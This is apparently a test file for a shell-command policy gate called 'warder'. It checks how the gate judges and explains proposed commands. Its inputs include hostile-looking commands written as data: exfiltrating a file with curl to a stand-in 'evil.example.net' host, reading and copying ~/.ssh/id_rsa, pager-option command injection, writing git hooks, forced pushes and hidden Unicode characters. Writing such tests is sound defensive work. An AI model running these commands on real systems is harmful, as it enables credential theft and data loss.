import { mkdirSync, readFileSync, realpathSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { systemClock } from "../../../../src/base/clock.ts";
import { makeVisible } from "../../../../src/base/text.ts";
import { explain, type Explanation } from "../../../../src/cli/view/explanation/explanation.ts";
import { explanationText } from "../../../../src/cli/view/explanation/text.ts";
import { compilePolicy } from "../../../../src/policy/compiling/compile.ts";
import { judgeCall, type CheckParts } from "../../../../src/gate/check.ts";
import { createRegistry } from "../../../../src/tools/registry.ts";
import { makePlace, warder } from "../../../support/warder-cli.ts";

const GOLDEN = new URL("../../../golden/explain/", import.meta.url);

const place = makePlace();
const root = realpathSync(place.root);
let parts: CheckParts;

afterAll(() => place.remove());
beforeAll(() => {
  const [workspace, home] = [join(root, "workspace"), join(root, "home")];
  for (const path of [join(workspace, "packages"), join(home, ".ssh")]) mkdirSync(path);
  writeFileSync(
    join(workspace, "package.json"),
    JSON.stringify({ scripts: { pretest: "rm -rf coverage", test: "vitest run", lint: "eslint src > lint.txt" } }),
  );
  writeFileSync(join(workspace, "a.txt"), "");
  const source = { file: "policy.yaml", text: readFileSync(new URL("policy.yaml", GOLDEN), "utf8") };
  const compiled = compilePolicy([source], { workspace, home, stateDirectory: join(root, "state") });
  if (compiled.kind === "refused") throw new Error(JSON.stringify(compiled.diagnostics));
  parts = {
    policy: compiled.policy,
    tools: createRegistry(),
    setting: { workspace, home },
    containment: "profile",
    ownPaths: [join(root, "state")],
    clock: systemClock,
  };
});

async function explained(text: string): Promise<Explanation> {
  return explain(text, await judgeCall(parts, { name: "shell", input: { command: text } }));
}

describe("the explanation of a command", () => {
  test.each([
    ["pipeline", "git log --oneline -n 20 | grep -v wip | tee log.txt"],
    ["redirections", "sort < a.txt > /etc/out.txt 2>&1 >> .git/hooks/post-commit"],
    ["wrappers", "sudo -u root env -i timeout 5 rm -r build"],
    ["nested-shell", `bash -c 'cd packages && rm -rf *; echo "$HOME"'`],
    ["here-document", "cat <<EOF > notes.md; touch owned\n# $(whoami)\n\n- one\nEOF"],
    ["git-options", "git -C packages -c core.pager='sh -c id' log --output=log.txt HEAD~2"],
    ["undecidable", 'x=$(cat a.txt)\neval "$x" && $x --version'],
    ["npm-test", "npm test && npm run lint"],
    ["denied-host", "curl -s https://api.example.com/v1 -o body.json && curl -d @a.txt https://evil.example.net/"],
    ["forbidden-path", "cp ~/.ssh/id_rsa .env"],
    ["rules", "git push --force origin main; npm install left-pad; npm test"],
    ["wide-characters", "touch 日本/語.txt\t'a\u0301😀' > 出力.txt"],
    ["hidden-characters", "ls # \u202egnp.exe\u200b; rm -rf x"],
    ["several-lines", "for f in a b; do\n\trm -f \"$f.o\"\ndone\nif true; then\n  python3 - <<'E'\nprint(1)\nE\nfi"],
    ["syntax-error", "echo 'never closed"],
    ["long-line", `echo ${"word ".repeat(40)}> out.txt ${"more ".repeat(40)}`],
  ])("is as reviewed: %s", async (name, text) => {
    const shown = explanationText(await explained(text)).replaceAll(root, "/dev-machine");
    await expect(`$ ${makeVisible(text)}\n\n${shown}`).toMatchFileSnapshot(new URL(`${name}.txt`, GOLDEN).pathname);
  });

  test("has every unit of the decision, with a word that stands in the text", async () => {
    const text = "cat a.txt | tee b > c; nice rm -r d";
    const { decision } = await judgeCall(parts, { name: "shell", input: { command: text } });
    const explanation = await explained(text);
    const units = explanation.commands.flatMap((command) => command.units);
    expect(units.map((unit) => unit.rule.id).toSorted()).toEqual(decision.units.map((unit) => unit.rule.id).toSorted());
    expect(units.map((unit) => unit.word?.text)).toEqual(["a.txt", "b", "> c", "nice rm -r d", "d"]);
    for (const { word } of units) expect(text.slice(word?.start, word?.end)).toBe(word?.text);
    expect(units.filter((unit) => unit.effect !== "command").every((unit) => unit.cause !== null)).toBe(true);
  });

  test("names only commands that are free of what was refused, with everything inside them", async () => {
    expect((await explained("ls; cat a.txt > b; echo $(rm c)")).unopposed).toEqual(["ls"]);
    expect((await explained("ls; cat a.txt")).unopposed).toEqual([]);
    expect((await explained("ls; echo 'never closed")).unopposed).toEqual([]);
  });

  test("prints no character that moves the cursor or is not seen, whatever the command holds", async () => {
    const text = "rm '\u001b[2Ja\u0007' \u{e0041} \u3164 \u00a0 \ufe01 b\r\u2066";
    const shown = explanationText(await explained(text));
    expect(makeVisible(shown)).toBe(shown);
    expect(shown).not.toMatch(/[\u{e0000}-\u{e0fff}\u3164\u00a0]|\ufe01/u);
    expect(shown).toContain("\\u{e0041}");
  });

  test("stays readable for a text of thousands of units", async () => {
    const shown = explanationText(await explained("rm a; ".repeat(2000)));
    expect(shown.split("\n").length).toBeLessThan(1000);
    expect(shown).toContain("further units");
  });
});

describe("warder policy explain", () => {
  test("ends with 0 though the command is denied, and says so in text and in JSON", async () => {
    const plain = await warder(place, ["policy", "explain", "cat ~/.ssh/id_rsa | head"]);
    expect(plain).toMatchObject({ exitCode: 0, stderr: "" });
    expect(plain.stdout).toContain("forbidden-path (policies/base.yaml:");
    const json = await warder(place, ["policy", "explain", "cat ~/.ssh/id_rsa | head", "--json", "--policy", "unattended", "--containment", "none"]);
    expect(json.exitCode).toBe(0);
    expect(JSON.parse(json.stdout)).toMatchObject({
      decision: "deny",
      policy: "unattended",
      containment: "none",
      commands: [
        { units: [expect.objectContaining({ verdict: "deny", word: expect.objectContaining({ line: 1, column: 5, start: 4, end: 17 }) }), expect.anything()] },
        expect.anything(),
      ],
    });
  });

  test("refuses a policy that is none", async () => {
    expect((await warder(place, ["policy", "explain", "ls", "--policy", "nothing"])).exitCode).toBe(78);
  });
});
